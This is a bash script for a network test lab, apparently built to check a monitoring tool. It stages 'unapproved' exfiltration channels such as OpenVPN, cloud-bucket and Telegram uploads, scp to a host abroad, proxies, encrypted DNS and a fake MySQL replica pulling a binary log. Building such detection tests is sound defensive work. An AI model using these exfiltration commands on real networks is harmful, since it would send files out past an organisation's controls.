# shellcheck shell=bash disable=SC1091,SC2016,SC2034,SC2154
# By what means it leaves.
scene_openvpn() { # NS SERVER PACKETS
    # shellcheck source=/dev/null
    . "$LAB_HERE/cases/openvpn.sh"
    lab_openvpn ovpn-u outside --dev tunu --ifconfig 192.0.2.225 192.0.2.226 --tls-server --dh none --proto udp --port 1194 --local "$2"
    lab_sink outside udp 0.0.0.0 9999; lab_wait_port outside udp 1194
    lab_openvpn ovpn-cu "$1" --dev tunu --ifconfig 192.0.2.226 192.0.2.225 --tls-client --proto udp --remote "$2" 1194 --nobind
    lab_wait 8 grep -q 'Initialization Sequence Completed' "$LAB_DIR/log/case-ovpn-cu" || return 1
    lab_in "$1" "$LAB_HERE/send.pl" udp4 192.0.2.225 9999 1200 "$3"
    lab_kill case-ovpn-cu
}
scene channel-openvpn exfil 'unapproved NII-0008:vpn' openvpn,socat 'OpenVPN to a server abroad.'
s_channel_openvpn() { scene_openvpn nii8 "$VPN" 30; }

scene channel-cloud-bucket exfil 'unapproved NII-0007:cloud-storage' curl,nginx 'An upload over TLS to a bucket of a storage provider.'
s_channel_cloud_bucket() { send nii7 https://bucket.oss-cn-beijing.aliyuncs.com/scan.img "$(file 60)"; }

scene channel-todesk exfil 'unapproved BAG-0003:remote-maintenance' curl,nginx 'TLS to a host of a remote-control tool.'
s_channel_todesk() { web bag3 https://client.todesk.com/; }

scene channel-messaging exfil 'unapproved BAG-0004:messaging' curl,nginx 'A file by a messaging service.'
s_channel_messaging() { send bag4 https://api.telegram.org/x "$(file 30)"; }

scene channel-ssh-out exfil 'unapproved NII-0008:remote-maintenance?' ssh,sshd 'A file by scp to a host abroad.'
s_channel_ssh_out() { lab_start_sshd sshd-out outside "$DROP" 22; lab_ssh nii8 scp -q "$LAB_DIR/tmp/scan.tif" "root@$DROP:/dev/null"; }

scene channel-ssh-in exfil 'unapproved NII-0007:remote-maintenance NII-0007:listens?' ssh,sshd 'A stranger logs in by SSH and reads a file.'
s_channel_ssh_in() { lab_start_sshd sshd-nii7 nii7 192.0.2.10 22; lab_ssh outside ssh -b "$STRANGER" root@192.0.2.10 "cat $LAB_DIR/tmp/scan.tif" >/dev/null; }

scene channel-ssh-443 exfil 'unapproved NII-0008:odd-port NII-0008:remote-maintenance?' ssh,sshd 'SSH to port 443.'
s_channel_ssh_443() { lab_start_sshd sshd-443 outside "$VPN" 443; lab_ssh nii8 ssh -p 443 "root@$VPN" "head -c 50000 /dev/zero" >/dev/null; }

scene channel-vnc-in exfil 'unapproved NII-0007:remote-maintenance NII-0007:listens?' socat 'A viewer abroad watches the screen by VNC (the handshake, then pictures).'
s_channel_vnc_in() {
    cat >"$LAB_DIR/tmp/vnc.pl" <<'END'
binmode STDIN; binmode STDOUT; $| = 1; print "RFB 003.008\n"; read STDIN, $_, 12; print "\1\1"; read STDIN, $_, 1; print pack "N", 0; read STDIN, $_, 1;
print pack("nnCCCCnnnCCCx3N", 800, 600, 32, 24, 0, 1, 255, 255, 255, 16, 8, 0, 4), "XRAY"; read STDIN, $_, 10;
for (1 .. 10) { print pack("CxnnnnnN", 0, 1, 0, 0, 64, 64, 0), map { chr int rand 256 } 1 .. 64 * 64 * 4; select undef, undef, undef, 0.2 }
END
    lab_bg case-vnc nii7 socat TCP4-LISTEN:5900,bind=192.0.2.10,reuseaddr,fork "SYSTEM:perl $LAB_DIR/tmp/vnc.pl"; lab_wait_port nii7 tcp 5900
    (printf 'RFB 003.008\n'; sleep 0.2; printf '\1'; sleep 0.2; printf '\1'; sleep 0.2; printf '\3\0\0\0\0\0\3\40\2\130'; sleep 3) | lab_in outside timeout 5 socat - "TCP4:192.0.2.10:5900,bind=$PULLER" >/dev/null; return 0
}
scene channel-http-proxy exfil 'unapproved BAG-0003:proxy' tinyproxy,curl 'An upload through an HTTP proxy abroad (CONNECT).'
s_channel_http_proxy() {
    printf 'Port 8888\nListen %s\nTimeout 20\nMaxClients 10\nUser root\nGroup root\nConnectPort 443\n' "$REMOTE" >"$LAB_DIR/etc/tinyproxy.conf"
    lab_bg case-tinyproxy outside tinyproxy -d -c "$LAB_DIR/etc/tinyproxy.conf"; lab_wait_port outside tcp 8888
    send bag3 https://files.abroad.example/x "$(file 40)" -x "http://$REMOTE:8888"
}
scene channel-socks exfil 'unapproved BAG-0003:proxy' microsocks,curl 'An upload through a SOCKS5 proxy abroad.'
s_channel_socks() {
    lab_bg case-socks outside microsocks -i "$REMOTE" -p 1080; lab_wait_port outside tcp 1080
    send bag3 http://files.abroad.example/x "$(file 40)" -4 -x "socks5://$REMOTE:1080"
}
scene channel-dot exfil 'unapproved NII-0008:encrypted-dns' kdig,openssl 'DNS over TLS to a resolver abroad.'
s_channel_dot() {
    lab_bg case-dot outside socat "OPENSSL-LISTEN:853,bind=$DOH,reuseaddr,fork,cert=$LAB_DIR/etc/tls/world.pem,key=$LAB_DIR/etc/tls/world.key,verify=0" "TCP4:$RESOLVER:53"; lab_wait_port outside tcp 853
    local i; for i in 1 2 3 4 5; do lab_in nii8 kdig +tls +retry=0 +time=2 "@$DOH" "images$i.aduana.example" >/dev/null 2>&1; done; return 0
}
scene channel-doh exfil 'unapproved NII-0008:encrypted-dns' curl,nginx 'DNS over HTTPS to a well-known resolver, by its name.'
s_channel_doh() { local i; for i in 1 2 3; do web nii8 --resolve "cloudflare-dns.com:443:$DOH" -k -H 'content-type: application/dns-message' --data-binary 'x' https://cloudflare-dns.com/dns-query; done; }

scene channel-mysql-replica exfil 'unapproved NII-0007:database-copy NII-0007:listens?' socat 'A replica abroad connects in and asks for the binary log.'
s_channel_mysql_replica() {
    cat >"$LAB_DIR/tmp/mysql.pl" <<'END'
binmode STDIN; binmode STDOUT; $| = 1; my $g = "\x0a5.7.44-log\0" . pack("V", 7) . "abcdefgh\0" . pack("vCvv", 0xf7ff, 8, 2, 0x81ff) . "\x15" . "\0" x 10 . "ijklmnopqrst\0mysql_native_password\0";
sub packet { my ($n, $b) = @_; print substr(pack("V", length $b), 0, 3), chr $n, $b } sub take { read STDIN, my $h, 4; read STDIN, my $b, unpack("V", substr($h, 0, 3) . "\0"); $b }
packet 0, $g; take(); packet 2, "\0\0\0\2\0\0\0"; take(); packet 1, "\0\0\0\2\0\0\0"; take(); for my $i (1 .. 40) { packet $i, "\0" . pack("VCVVVv", time, 30, 1, 1000, 0, 0) . join "", map { chr int rand 256 } 1 .. 900 }
END
    lab_bg case-mysql nii7 socat TCP4-LISTEN:3306,bind=192.0.2.10,reuseaddr "SYSTEM:perl $LAB_DIR/tmp/mysql.pl"; lab_wait_port nii7 tcp 3306
    perl -e 'binmode STDOUT; $| = 1; sub p { my ($n, $b) = @_; print substr(pack("V", length $b), 0, 3), chr $n, $b; select undef, undef, undef, 0.2 }
        p 1, pack("VVC", 0x000fa68d, 1 << 24, 33) . "\0" x 23 . "repl\0\0mysql_native_password\0"; p 0, "\x15" . pack("V", 99) . "\0\0\0" . pack("v", 3306) . "\0" x 8; p 0, "\x12" . pack("VvV", 4, 0, 99) . "binlog.000001"; sleep 1' |
        lab_in outside timeout 4 socat - "TCP4:192.0.2.10:3306,bind=$PULLER" >/dev/null; return 0
}
